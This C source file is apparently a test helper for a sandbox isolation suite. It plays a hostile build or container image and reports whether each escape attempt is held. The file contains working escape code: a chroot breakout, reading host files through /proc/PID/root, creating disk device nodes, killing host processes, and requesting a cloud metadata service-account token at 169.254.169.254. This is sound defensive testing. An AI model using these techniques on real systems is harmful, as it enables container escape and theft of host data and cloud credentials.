/*
 * What a hostile image tries, in a build's step or in a container; isolation.bats links it statically. Each attack
 * prints "NAME: " and "held", or what it got hold of; it always ends with 0, so that a build goes on to the next.
 *
 *   chroot FILE NEW      reads FILE of the machine, and writes NEW there, by leaving the root directory
 *   proc FILE            reads FILE through the root directory of every process that is seen
 *   device               reads a disk of the machine, through its node or one made here
 *   kill WORD NUMBER     ends the process of the machine that has WORD-NUMBER among its arguments, as no process of the
 *                        build itself has
 *   token PORT           asks the platform's metadata server for an access token, at every address that may be its own
 *   environ              prints the environment
 *   status               prints what the kernel grants: capabilities, no_new_privs, ids
 *   serve                answers every request on $PORT with $MARK
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <unistd.h>

extern char **environ;

static int number_of(const char *text)
{
    return (int)strtol(text, NULL, 10);
}

/* 1 and its beginning, when it can be read. */
static int grab(const char *name, const char *path)
{
    char text[256];
    int fd = open(path, O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

    if (fd >= 0)
        close(fd);
    if (n <= 0)
        return 0;
    text[n] = '\0';
    printf("%s: read %s: %s\n", name, path, text);
    return 1;
}

static int leave_root(const char *file, const char *new_file)
{
    int got, fd;

    if (mkdir("/outside", 0755) < 0 && errno != EEXIST)
        return 0;
    if (chroot("/outside") < 0)
        return 0;
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    if (chroot(".") < 0)
        return 0;
    got = grab("chroot", file);
    fd = open(new_file, O_WRONLY | O_CREAT, 0644);
    if (fd >= 0)
        got = printf("chroot: wrote %s\n", new_file);
    return got;
}

static int each_process(int (*fn)(const char *pid, void *arg), void *arg)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    int got = 0;

    while (d && (e = readdir(d)))
        if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
            got |= fn(e->d_name, arg);
    if (d)
        closedir(d);
    return got;
}

static int read_root(const char *pid, void *file)
{
    char path[4200];

    snprintf(path, sizeof(path), "/proc/%s/root%s", pid, (const char *)file);
    return grab("proc", path);
}

/* Ends nothing but a process with the test's own word. */
static int kill_marked(const char *pid, void *word)
{
    char path[300], text[4096];
    int fd, got = 0;
    ssize_t n;

    snprintf(path, sizeof(path), "/proc/%s/cmdline", pid);
    fd = open(path, O_RDONLY);
    n = fd < 0 ? 0 : read(fd, text, sizeof(text) - 1);
    close(fd);
    text[n > 0 ? n : 0] = '\0';
    for (char *p = text; p < text + n; p += strlen(p) + 1)
        if (strcmp(p, word) == 0 && number_of(pid) != getpid() && kill(number_of(pid), SIGKILL) == 0)
            got = printf("kill: ended process %s\n", pid);
    return got;
}

static int kill_process(const char *word, const char *number)
{
    char marked[256];

    snprintf(marked, sizeof(marked), "%s-%s", word, number);
    return each_process(kill_marked, marked);
}

static int read_devices(void)
{
    DIR *d = opendir("/sys/block");
    struct dirent *e;
    int got = 0;

    while (d && (e = readdir(d))) {
        char path[600], text[32] = "";
        unsigned high = 0, low = 0;
        int fd;

        if (e->d_name[0] == '.')
            continue;
        snprintf(path, sizeof(path), "/dev/%s", e->d_name);
        if (access(path, F_OK) == 0)
            got = printf("device: has %s\n", path);
        snprintf(path, sizeof(path), "/sys/block/%s/dev", e->d_name);
        fd = open(path, O_RDONLY);
        if (fd >= 0 && read(fd, text, sizeof(text) - 1) > 0 && sscanf(text, "%u:%u", &high, &low) == 2 &&
            mknod("/disk", S_IFBLK | 0600, makedev(high, low)) == 0)
            got = printf("device: made %u:%u\n", high, low);
        close(fd);
    }
    if (d)
        closedir(d);
    return got;
}

static int ask_token(const char *host, int port)
{
    static const char ask[] = "GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\r\n"
                              "Host: metadata.google.internal\r\nMetadata-Flavor: Google\r\nConnection: close\r\n\r\n";
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    struct timeval wait = {.tv_sec = 2};
    int fd = socket(AF_INET, SOCK_STREAM, 0), got = 0;
    char answer[4096];
    ssize_t n;

    inet_pton(AF_INET, host, &at.sin_addr);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &wait, sizeof(wait));
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof(wait));
    if (connect(fd, (struct sockaddr *)&at, sizeof(at)) == 0 && write(fd, ask, sizeof(ask) - 1) > 0) {
        n = recv(fd, answer, sizeof(answer) - 1, MSG_WAITALL);
        answer[n > 0 ? n : 0] = '\0';
        printf("asked %s: %.60s\n", host, answer);
        if (strstr(answer, "access_token"))
            got = printf("token: got one from %s\n", host);
    }
    close(fd);
    return got;
}

/* This machine's loopback, the two addresses that user-mode networks give it, and the gateway. */
static int ask_everywhere(int port)
{
    static const char *const hosts[] = {"127.0.0.1", "10.0.2.2", "10.0.2.3", "169.254.1.2", "169.254.169.254"};
    FILE *f = fopen("/proc/net/route", "r");
    char line[256], text[INET_ADDRSTRLEN];
    struct in_addr gateway;
    int got = 0;

    for (size_t i = 0; i < sizeof(hosts) / sizeof(hosts[0]); i++)
        got |= ask_token(hosts[i], port);
    while (f && fgets(line, sizeof(line), f))
        if (sscanf(line, "%*s 00000000 %x", &gateway.s_addr) == 1)
            got |= ask_token(inet_ntop(AF_INET, &gateway, text, sizeof(text)), port);
    if (f)
        fclose(f);
    return got;
}

static int show_environment(void)
{
    for (char **e = environ; *e; e++)
        printf("environ: %s\n", *e);
    return 1;
}

static int show_status(void)
{
    FILE *f = fopen("/proc/self/status", "r"), *map = fopen("/proc/self/uid_map", "r");
    char line[512];

    while (f && fgets(line, sizeof(line), f))
        if (strncmp(line, "Cap", 3) == 0 || strncmp(line, "NoNewPrivs", 10) == 0)
            printf("status: %s", line);
    while (map && fgets(line, sizeof(line), map))
        printf("status: uid_map %s", line);
    return 1;
}

static int serve(void)
{
    const char *port = getenv("PORT"), *mark = getenv("MARK");
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons((uint16_t)number_of(port ? port : "8080"))};
    int fd = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    char ask[4096];

    show_status();
    show_environment();
    fflush(stdout);
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
    if (bind(fd, (struct sockaddr *)&at, sizeof(at)) < 0 || listen(fd, 16) < 0)
        exit(1);
    for (;;) {
        int c = accept(fd, NULL, NULL);

        if (c >= 0 && read(c, ask, sizeof(ask)) > 0)
            dprintf(c, "HTTP/1.1 200 OK\r\nContent-Length: %zu\r\nConnection: close\r\n\r\n%s",
                    strlen(mark ? mark : ""), mark ? mark : "");
        close(c);
    }
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "serve";
    int got = 0;

    setvbuf(stdout, NULL, _IOLBF, 0);
    if (strcmp(what, "serve") == 0)
        return serve();
    if (strcmp(what, "chroot") == 0 && argc == 4)
        got = leave_root(argv[2], argv[3]);
    else if (strcmp(what, "proc") == 0 && argc == 3)
        got = each_process(read_root, argv[2]);
    else if (strcmp(what, "device") == 0)
        got = read_devices();
    else if (strcmp(what, "kill") == 0 && argc == 4)
        got = kill_process(argv[2], argv[3]);
    else if (strcmp(what, "token") == 0 && argc == 3)
        got = ask_everywhere(number_of(argv[2]));
    else if (strcmp(what, "environ") == 0)
        got = show_environment();
    else if (strcmp(what, "status") == 0)
        got = show_status();
    else
        return 64;
    if (!got)
        printf("%s: held\n", what);
    return 0;
}
